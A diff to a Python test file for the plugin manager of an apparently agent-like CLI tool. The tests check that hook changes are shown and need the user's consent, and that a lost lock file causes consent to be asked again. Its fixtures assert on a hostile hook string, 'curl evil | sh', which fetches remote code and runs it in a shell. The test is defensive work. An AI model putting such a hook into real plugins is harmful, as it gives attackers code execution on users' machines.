@@ -92,9 +92,19 @@ def test_an_update_that_changes_a_hook_asks_with_the_difference(robota: Robota, 
     asked = robota("plugin", "update", "lint")
     assert asked.code == 1 and "hooks/hooks.json: changed" in asked.stdout
     assert "curl evil | sh" in asked.stdout and json.dumps(HOOKS)[:40] in asked.stdout
+    assert "was not updated" in asked.stdout
     assert write_a_file(robota).code == 0 and has_run(robota), "the plugin as it was agreed to goes on working"
     assert robota("plugin", "update", "lint", "--yes").code == 0
     assert "curl evil" in robota("plugin", "show", "lint").stdout
+
+
+def test_what_is_installed_already_is_said_to_be(robota: Robota, market: Path) -> None:
+    installed(robota, market)
+    again = robota("plugin", "install", "lint@team")
+    assert again.code == 0 and "lint@team is installed already, and has not changed." in again.stdout
+    (robota.home / ".robota/robota.lock").unlink()
+    unseen = robota("plugin", "install", "lint@team")
+    assert unseen.code == 1 and "It brings:" in unseen.stdout, "an agreement that is gone is asked for again"
 
 
 def test_a_failed_update_leaves_the_old_one_working(robota: Robota, market: Path) -> None:
